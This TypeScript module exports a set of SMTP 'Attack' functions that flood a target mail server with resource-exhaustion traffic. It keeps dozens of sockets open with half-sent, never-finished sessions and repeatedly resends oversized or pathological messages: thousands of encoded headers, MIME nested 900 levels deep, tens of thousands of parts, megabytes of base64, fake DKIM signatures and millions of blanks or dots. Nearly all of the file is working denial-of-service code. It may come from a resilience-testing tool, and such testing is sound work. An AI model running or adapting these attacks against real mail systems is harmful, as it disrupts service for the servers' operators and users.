import { type Aim, type Attack, keepOpen, open } from './sockets.ts';

/* Messages that are dear to keep or to take apart. */

const EHLO = 'EHLO attacker.example\r\n';
const ENVELOPE = 'MAIL FROM:<a@attacker.example>\r\nRCPT TO:<user@example.com>\r\n';
const HEAD =
  'From: a@attacker.example\r\nTo: ann@example.com\r\nDate: Thu, 1 Jan 2026 00:00:00 +0000\r\nMessage-ID: <1@attacker.example>\r\n';

/** Sent over and over, the reply waited for each time. */
const again =
  (content: () => string): Attack =>
  (aim: Aim) => {
    const whole = Buffer.from(`${ENVELOPE}DATA\r\n${content()}\r\n.\r\n`, 'latin1');
    keepOpen(20, () => {
      const socket = open(aim, aim.smtp);
      socket.write(EHLO);
      socket.write(whole);
      socket.on('data', (said) => {
        if (/^[245]\d\d .*(queued|\d\.\d\.\d)/m.test(said.toString('latin1')) && socket.writableLength < 1e6) socket.write(whole);
      });
      return socket;
    });
  };

/** Begun, and never ended. */
const held =
  (said: () => string): Attack =>
  (aim: Aim) => {
    const bytes = Buffer.from(EHLO + said(), 'latin1');
    keepOpen(50, () => {
      const socket = open(aim, aim.smtp);
      socket.write(bytes);
      return socket.resume();
    });
  };

const nested = (depth: number): string => {
  let text = '';
  for (let level = 0; level < depth; level++) text += `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n`;
  return text;
};

const parts = (count: number): string =>
  `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: text/plain; name=a.txt\r\n\r\nx\r\n'.repeat(count)}--b--`;

const signature = `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=attacker.example; s=s; h=from; bh=${'A'.repeat(43)}=; b=${'A'.repeat(171)}=\r\n`;

const longOrcpt = (n: number): string => `RCPT TO:<ann+${n}@example.com> ORCPT=rfc822;${'a'.repeat(490)}@example.com\r\n`;

export const MESSAGES: Readonly<Record<string, Attack>> = {
  'many recipients, held': held(() => `MAIL FROM:<a@attacker.example>\r\n${Array.from({ length: 1000 }, (_, n) => longOrcpt(n)).join('')}`),
  'half a header, held': held(() => `${ENVELOPE}DATA\r\n${HEAD}${'X: y\r\n'.repeat(41_000)}`),
  'half a body, held': held(() => `${ENVELOPE}DATA\r\n${HEAD}\r\n${'x'.repeat(70)}${'\r\nyyyy'.repeat(21_000)}`),
  'half a large body, held': held(() => `${ENVELOPE}DATA\r\n${HEAD}\r\n${'xxxxxxxxxx\r\n'.repeat(100_000)}`),
  'header bomb': again(() => `${HEAD}${'Received: x\r\n'.repeat(40)}${'X: =?utf-8?q?=41?= =?utf-8?q?=41?=\r\n'.repeat(6500)}\r\nx`),
  'recipients in the header': again(() => `${HEAD}Cc: ${'"a" <a@b.example>,\r\n '.repeat(10_000)}c@d.example\r\n\r\nx`),
  'deep mime': again(() => HEAD + nested(900)),
  'many parts': again(() => HEAD + parts(20_000)),
  'large base64': again(
    () =>
      `${HEAD}Content-Type: application/octet-stream; name=a.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n${`${'QUJD'.repeat(19)}\r\n`.repeat(100_000)}`,
  ),
  'large html': again(() => `${HEAD}Content-Type: text/html\r\n\r\n${`${'<b>'.repeat(25)}\r\n`.repeat(100_000)}`),
  'many signatures': again(() => `${signature.repeat(50)}${HEAD}\r\n${`${' \t'.repeat(35)}\r\n`.repeat(100_000)}`),
  'a line of blanks': again(() => `${signature}${HEAD}\r\n${' '.repeat(8_000_000)}`),
  'nothing but dots': again(() => `${HEAD}\r\n${'..\r\n'.repeat(500_000)}`),
};
